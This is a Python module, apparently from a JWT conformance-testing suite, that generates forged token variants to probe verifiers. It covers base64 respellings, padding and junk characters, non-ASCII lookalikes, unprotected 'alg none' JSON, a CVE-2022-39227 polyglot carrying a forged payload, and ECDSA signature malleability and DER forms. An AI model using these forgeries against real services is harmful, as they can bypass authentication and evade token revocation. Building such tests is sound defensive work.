"""The same token, spelled otherwise; and forms in which two parsers read two tokens.

Acceptance of another spelling harms where a token is remembered by its text: a deny-list at logout.
Sources: RFC 7515 sections 2 and 7, RFC 4648 section 3.5, 8725bis sections 2.13 and 3.14.
"""

from __future__ import annotations

import itertools
from collections.abc import Iterator

from conformance.attacks import jwt
from conformance.attacks.material import Forgery, Material

ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"

SEGMENTS = ("header", "payload", "signature")

_ORDERS = {
    "ES256": (32, 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551),
    "ES384": (
        48,
        0xFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFC7634D81F4372DDF581A0DB248B0A77AECEC196ACCC52973,
    ),
    "ES512": (
        66,
        0x1FFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFA51868783BF2F966B7FCC0148F709A5D03BB5C9B8899C47AEBB6FB71E91386409,
    ),
    "ES256K": (32, 0xFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFEBAAEDCE6AF48A03BBFD25E8CD0364141),
}
"""Bytes of a coordinate and order of the group, by algorithm (SEC 2)."""


def order_of(alg: str) -> tuple[int, int] | None:
    """Bytes of a number in a signature, and the order of the curve's group; None for other algorithms."""
    return _ORDERS.get(alg)


def _respelled(m: Material, name: str, note: str, **segments: str) -> Iterator[Forgery]:
    parts = dict(zip(SEGMENTS, m.genuine.segments, strict=True))
    raw = ".".join((parts | segments).values())
    if raw != m.genuine.raw:
        yield Forgery(name, raw, note, same_identity=True)


def trailing_bits(m: Material) -> Iterator[Forgery]:
    """The last character of a segment with its unused low bits set (RFC 4648 section 3.5)."""
    for segment, text in reversed(list(zip(SEGMENTS, m.genuine.segments, strict=True))):
        if len(text) % 4 in (2, 3):
            changed = text[:-1] + ALPHABET[ALPHABET.index(text[-1]) | 1]
            note = f"last character {text[-1]} of the {segment} becomes {changed[-1]}, the bytes stay"
            yield from _respelled(m, f"trailing bits of the {segment}", note, **{segment: changed})


def padding(m: Material) -> Iterator[Forgery]:
    """Padding characters, which a JWS has not (RFC 7515 section 2)."""
    signature = m.genuine.segments[2]
    right = "=" * (-len(signature) % 4) or "===="
    yield from _respelled(m, "signature padded", f"{right} after the signature", signature=signature + right)
    yield from _respelled(m, "signature padded too much", "six = after the signature", signature=signature + "======")
    padded = {name: text + "=" * (-len(text) % 4) for name, text in zip(SEGMENTS, m.genuine.segments, strict=True)}
    yield from _respelled(m, "all segments padded", "each segment padded to a multiple of four", **padded)
    inner = f"{signature[:4]}===={signature[4:]}"
    yield from _respelled(m, "padding inside", "four = inside the signature", signature=inner)


def junk(m: Material) -> Iterator[Forgery]:
    """Characters outside the alphabet that lenient decoders skip, four at a time to keep lengths right."""
    _, payload, signature = m.genuine.segments
    for name, dirt in (("exclamation marks", "!!!!"), ("spaces", "    ")):
        changed = signature[:4] + dirt + signature[4:]
        yield from _respelled(m, f"{name} in the signature", f"four {name} inside", signature=changed)
    yield from _respelled(m, "junk after the signature", "four asterisks at the end", signature=signature + "****")
    changed = payload[:4] + "!!!!" + payload[4:]
    yield from _respelled(m, "exclamation marks in the payload", "four exclamation marks inside", payload=changed)


def standard_alphabet(m: Material) -> Iterator[Forgery]:
    """``+`` and ``/`` for ``-`` and ``_`` (RFC 4648 section 4)."""
    table = str.maketrans("-_", "+/")
    changed = {name: text.translate(table) for name, text in zip(SEGMENTS, m.genuine.segments, strict=True)}
    note = "+ and / stand for - and _"
    yield from _respelled(m, "signature in the standard alphabet", note, signature=changed["signature"])
    yield from _respelled(m, "token in the standard alphabet", note, **changed)


def non_ascii(m: Material) -> Iterator[Forgery]:
    """Characters beyond ASCII that folding or sloppy decoding turns into those of a token."""
    header, payload, signature = m.genuine.segments
    wide = chr(ord(signature[0]) + 0xFEE0) + signature[1:]
    for name, text in (
        ("dots U+2024", f"{header}\u2024{payload}\u2024{signature}"),
        ("full-width letter", f"{header}.{payload}.{wide}"),
        ("lone surrogate", f"{header}.{payload}.{signature}\ud800"),
    ):
        raw = text.encode("utf-8", "surrogatepass")
        yield Forgery(name, raw, "UTF-8 bytes of the genuine token so changed", same_identity=True)


def segments(m: Material) -> Iterator[Forgery]:
    """Other numbers of segments, and empty ones (RFC 7519 section 7.2)."""
    header, _, signature = m.genuine.segments
    for name, raw in (
        ("dot at the end", f"{m.genuine.raw}."),
        ("dot in front", f".{m.genuine.raw}"),
        ("signature twice", f"{m.genuine.raw}.{signature}"),
        ("five segments", f"{m.genuine.raw}.."),
        ("empty payload", f"{header}..{signature}"),
    ):
        yield Forgery(name, raw, "segments of the genuine token", same_identity=True)


def json_serialization(m: Material) -> Iterator[Forgery]:
    """JSON serialisations, which no JWT has (RFC 7519 section 1, RFC 7515 section 7.2)."""
    header, payload, signature = m.genuine.segments
    signed = {"protected": header, "signature": signature}
    forged = jwt.b64_encode(m.payload)
    unsigned = {"payload": forged, "header": {"alg": "none"}, "signature": ""}
    yield Forgery("unprotected alg none", jwt.dumps(unsigned), "flattened JSON, alg none unprotected, identity changed")
    flattened = jwt.dumps({"payload": payload, **signed})
    yield Forgery("flattened JSON", flattened, "the genuine token in flattened JSON", same_identity=True)
    general = jwt.dumps({"payload": payload, "signatures": [signed]})
    yield Forgery("general JSON", general, "the genuine token in general JSON", same_identity=True)


def polyglot(m: Material) -> Iterator[Forgery]:
    """JSON to the verifier, three segments with another payload to the reader (CVE-2022-39227)."""
    header, payload, signature = m.genuine.segments
    forged = jwt.b64_encode(m.payload)
    members = f'"protected":"{header}","payload":"{payload}","signature":"{signature}"'
    note = "flattened JSON of the genuine token; split at dots, its middle is the forged payload"
    yield Forgery("polyglot", f'{{"  {header}.{forged}.":"",{members}}}', note)
    yield Forgery("polyglot, signature in the name", f'{{"  {header}.{forged}.{signature}":"",{members}}}', note)


def es_malleable(m: Material) -> Iterator[Forgery]:
    """The twin of an ECDSA signature, ``s`` replaced by ``n - s``: as valid as the first."""
    curve = order_of(m.genuine.alg)
    if curve is None or len(m.genuine.signature) != 2 * curve[0]:
        return
    width, order = curve
    r, s = m.genuine.signature[:width], int.from_bytes(m.genuine.signature[width:], "big")
    if 0 < s < order:
        twin = jwt.b64_encode(r + (order - s).to_bytes(width, "big"))
        yield from _respelled(m, "signature twin", "s replaced by n - s", signature=twin)


def es_der(m: Material) -> Iterator[Forgery]:
    """The genuine ECDSA signature in ASN.1, and with numbers that are too long (RFC 7518 section 3.4)."""
    curve = order_of(m.genuine.alg)
    if curve is None or len(m.genuine.signature) != 2 * curve[0]:
        return
    width = curve[0]
    r, s = m.genuine.signature[:width], m.genuine.signature[width:]
    body = b"".join(_der_integer(number) for number in (r, s))
    length = bytes([len(body)]) if len(body) < 128 else bytes([0x81, len(body)])
    der = jwt.b64_encode(b"\x30" + length + body)
    yield from _respelled(m, "signature in DER", "the same numbers in an ASN.1 sequence", signature=der)
    longer = jwt.b64_encode(b"\0" + r + b"\0" + s)
    yield from _respelled(m, "numbers with a leading zero", f"{width + 1} bytes for each number", signature=longer)


def is_der(token: jwt.Token) -> bool:
    """Whether a token's own ECDSA signature is in ASN.1, as no JWS has it."""
    curve = order_of(token.alg)
    if curve is None or len(token.signature) == 2 * curve[0]:
        return False
    try:
        jwt.side_by_side(token.signature, curve[0])
    except ValueError:
        return False
    return True


def _der_integer(number: bytes) -> bytes:
    digits = number.lstrip(b"\0") or b"\0"
    digits = b"\0" + digits if digits[0] & 0x80 else digits
    return bytes([2, len(digits)]) + digits


def spellings(m: Material) -> Iterator[Forgery]:
    """What is most often accepted of the base64 spellings, one or two of each kind."""
    for family, members in ((padding, 2), (trailing_bits, 1), (junk, 3), (standard_alphabet, 1)):
        yield from itertools.islice(family(m), members)


FAMILIES = {
    "token.b64.trailing-bits": trailing_bits,
    "token.b64.padding": padding,
    "token.b64.junk": junk,
    "token.b64.std-alphabet": standard_alphabet,
    "token.b64.non-ascii": non_ascii,
    "token.form.segments": segments,
    "token.form.json-serialization": json_serialization,
    "token.form.polyglot": polyglot,
    "token.sig.es-malleable": es_malleable,
    "token.alg.es-der": es_der,
    "token.revoke.malleable.es": es_malleable,
    "token.revoke.malleable.b64": spellings,
}
